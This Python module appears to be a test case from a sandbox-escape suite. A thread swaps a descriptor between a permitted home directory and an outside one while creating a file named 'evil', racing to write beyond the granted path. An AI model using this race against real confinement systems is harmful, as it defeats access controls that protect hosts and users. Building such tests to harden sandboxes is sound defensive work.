"""The same for os.open()."""
CATEGORY = "races"
REACH = "write"
GRANT = {"write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os

from . import payload

HOME = payload.ROOT + "/home"


def attack():
    os.mkdir(HOME + "/free")
    free = os.open(HOME + "/free", os.O_PATH)
    out = os.open(payload.ROOT + "/out", os.O_PATH)
    fd = os.dup(free)

    def turn():
        os.dup2(free, fd)
        os.dup2(out, fd)

    payload.race(turn,
                 lambda: os.close(os.open(
                     "evil", os.O_CREAT | os.O_WRONLY, dir_fd=fd)))
